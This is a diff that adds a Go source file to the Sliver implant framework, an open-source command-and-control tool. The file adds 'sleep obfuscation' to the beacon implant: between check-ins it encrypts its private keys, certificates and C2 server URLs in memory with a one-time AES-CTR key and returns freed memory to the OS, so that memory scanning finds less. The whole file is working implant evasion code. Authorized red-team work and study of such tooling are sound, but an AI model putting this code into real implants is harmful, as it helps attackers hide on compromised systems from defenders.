@@ -0,0 +1,102 @@
+package transports
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2020  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"crypto/aes"
+	"crypto/cipher"
+	"crypto/rand"
+	"runtime/debug"
+	"strconv"
+	"sync"
+	"time"
+)
+
+var (
+	sleepObfuscation = getSleepObfuscation()
+
+	// secretsMutex - Held for writing while the secrets are masked, anything
+	// reading them blocks until the beacon wakes up
+	secretsMutex = &sync.RWMutex{}
+)
+
+// GetSleepObfuscation - Are secrets masked between beacon check-ins
+func GetSleepObfuscation() bool {
+	timingMutex.RLock()
+	defer timingMutex.RUnlock()
+	return sleepObfuscation
+}
+
+// SetSleepObfuscation - Runtime toggle for sleep obfuscation
+func SetSleepObfuscation(enabled bool) {
+	timingMutex.Lock()
+	defer timingMutex.Unlock()
+	sleepObfuscation = enabled
+}
+
+// Sleep - Wait between beacon check-ins. With sleep obfuscation enabled our
+// key material and C2 URLs are encrypted in place with a one-time key, and
+// freed memory (old connections, task output) is returned to the OS before
+// we go to sleep. Goroutine stacks are left alone, Go doesn't let us touch them.
+func Sleep(duration time.Duration) {
+	if !GetSleepObfuscation() {
+		time.Sleep(duration)
+		return
+	}
+	secretsMutex.Lock()
+	defer secretsMutex.Unlock()
+	key := make([]byte, 32+aes.BlockSize)
+	_, err := rand.Read(key)
+	if err != nil {
+		time.Sleep(duration)
+		return
+	}
+	maskSecrets(key)
+	debug.FreeOSMemory()
+	time.Sleep(duration)
+	maskSecrets(key) // Same key stream again unmasks them
+	for index := range key {
+		key[index] = 0
+	}
+}
+
+// maskSecrets - XOR the secrets with an AES-CTR key stream, the order of
+// secrets() must be stable so a second call undoes the first
+func maskSecrets(key []byte) {
+	block, err := aes.NewCipher(key[:32])
+	if err != nil {
+		return
+	}
+	stream := cipher.NewCTR(block, key[32:])
+	for _, secret := range secrets() {
+		stream.XORKeyStream(secret, secret)
+	}
+}
+
+func secrets() [][]byte {
+	return append([][]byte{keyPEM, certPEM, caCertPEM}, ccServers...)
+}
+
+func getSleepObfuscation() bool {
+	enabled, err := strconv.ParseBool(`{{.SleepObfuscation}}`)
+	if err != nil {
+		return false
+	}
+	return enabled
+}